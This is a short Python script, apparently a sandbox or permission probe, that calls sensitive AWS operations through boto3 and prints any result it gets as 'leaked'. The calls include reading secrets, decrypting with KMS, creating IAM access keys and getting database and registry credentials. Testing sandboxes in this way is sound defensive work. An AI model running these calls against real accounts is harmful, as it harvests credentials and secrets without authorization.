import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
for service, operation, params in (
    ("ec2", "get_password_data", {"InstanceId": "i-1"}), ("ecr", "get_authorization_token", {}), ("lambda", "get_function", {"FunctionName": "f"}),
    ("kms", "decrypt", {"CiphertextBlob": b"x"}), ("iam", "create_access_key", {}), ("rds", "download_db_log_file_portion", {"DBInstanceIdentifier": "d", "LogFileName": "l"}),
    ("secretsmanager", "batch_get_secret_value", {"SecretIdList": ["x"]}), ("codecommit", "get_file", {"repositoryName": "r", "filePath": "f"}),
    ("redshift", "get_cluster_credentials", {"DbUser": "u", "ClusterIdentifier": "c"}), ("cognito-idp", "describe_user_pool_client", {"UserPoolId": "p_1", "ClientId": "c"}),
    ("athena", "get_query_results", {"QueryExecutionId": "q"}), ("kinesis", "get_records", {"ShardIterator": "s"}), ("dynamodb", "execute_statement", {"Statement": "select * from t"})):
    attempt(lambda: leak(getattr(boto3.client(service), operation)(**params)))
